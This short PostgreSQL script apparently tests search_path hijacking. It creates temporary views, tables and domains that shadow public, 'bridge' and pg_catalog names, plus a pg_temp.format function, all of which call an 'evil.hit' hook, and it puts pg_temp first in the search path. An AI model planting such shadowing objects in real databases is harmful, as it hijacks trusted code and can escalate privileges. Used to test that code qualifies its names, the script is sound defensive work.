-- What an application plants where nobody else sees it: in its own session, in front of everything.

do $$
declare
    r record;
begin
    for r in select viewname as relname from pg_views where schemaname = 'public' and viewname like 'pg\_%' loop
        execute format('create temporary view %I as select * from public.%1$I', r.relname);
    end loop;
    for r in select relname from pg_class where relnamespace = 'bridge'::regnamespace and relkind in ('r', 'p', 'v') loop
        execute format('create temporary table %I as select * from bridge.%1$I with no data', r.relname);
    end loop;
    for r in select typname from pg_type where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typelem = 0 loop
        execute format('create domain pg_temp.%I as pg_catalog.%1$I check (evil.hit(0))', r.typname);
    end loop;
end
$$;
create function pg_temp.format(text, text) returns text language plpgsql as $$ begin perform evil.hit(0); end $$;
set local search_path = pg_temp, public, pg_catalog;
